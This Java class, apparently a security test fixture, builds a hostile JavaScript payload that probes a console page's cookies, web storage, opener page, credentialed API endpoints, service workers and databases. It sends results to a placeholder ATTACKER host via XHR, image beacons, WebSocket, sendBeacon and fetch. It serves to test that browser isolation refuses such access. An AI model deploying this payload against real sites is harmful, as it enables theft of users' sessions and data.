package dev.signalbox.browser;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;

/**
 * A script that tries to read what belongs to the console, and writes what it could read to the
 * browser's log, which no policy prevents. It contains no character that HTML, XML or a quoted
 * attribute would escape.
 */
final class HostileScript {

  /** The beginning of a line in the browser's log, followed by a JSON object. */
  static final String REPORT = "hostile ";

  /** The value of all cookies and entries of the storage that the script must not read. */
  static final String SECRET = "secret-of-the-console";

  /** What the script could not read. */
  static final String REFUSED = "refused";

  private final String console;
  private final String attacker;

  HostileScript(String console, String attacker) {
    this.console = console;
    this.attacker = attacker;
  }

  /** Returns the script. */
  String text() {
    return """
    (()=>{const seen={file:String(self.location)};\
    const now=(name,read)=>{try{seen[name]=String(read())}catch(e){seen[name]='refused'}};\
    const tell=()=>console.log('hostile '+JSON.stringify(seen));\
    now('origin',()=>self.origin);\
    now('cookie',()=>document.cookie);\
    now('newCookie',()=>document.cookie='stolen=1');\
    now('domain',()=>document.domain='localhost');\
    now('local',()=>localStorage.getItem('secret'));\
    now('session',()=>sessionStorage.getItem('secret'));\
    now('opener',()=>opener.document.body.innerText);\
    now('popup',()=>self.open('CONSOLE/users').document.body);\
    tell();\
    const request=new XMLHttpRequest();request.open('GET','ATTACKER/stolen');request.send();\
    new Image().src='ATTACKER/stolen?origin='+self.origin;\
    new Image().src='CONSOLE/users?image';\
    new WebSocket('ATTACKER/stolen'.replace('http','ws'));\
    navigator.sendBeacon('ATTACKER/stolen','x');\
    })();(async()=>{const seen={file:String(self.location),origin:self.origin};\
    const later=async(name,read)=>{try{seen[name]=String(await read())}catch(e){seen[name]='refused'}};\
    await later('users',()=>fetch('CONSOLE/users',{credentials:'include'}).then(r=>r.text()));\
    await later('token',()=>fetch('CONSOLE/tokens',{method:'POST',credentials:'include'}).then(r=>r.status));\
    await later('collector',()=>fetch('ATTACKER/stolen').then(r=>r.text()));\
    await later('worker',()=>navigator.serviceWorker.register(self.location.href));\
    await later('caches',()=>caches.keys());\
    await later('databases',()=>indexedDB.databases());\
    seen.complete='yes';console.log('hostile '+JSON.stringify(seen))})();\
    """
        .replace("CONSOLE", console)
        .replace("ATTACKER", attacker);
  }

  /** Returns the script as a data URL. */
  String dataUrl(String type, String before, String after) {
    return "data:"
        + type
        + ","
        + URLEncoder.encode(before + text() + after, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
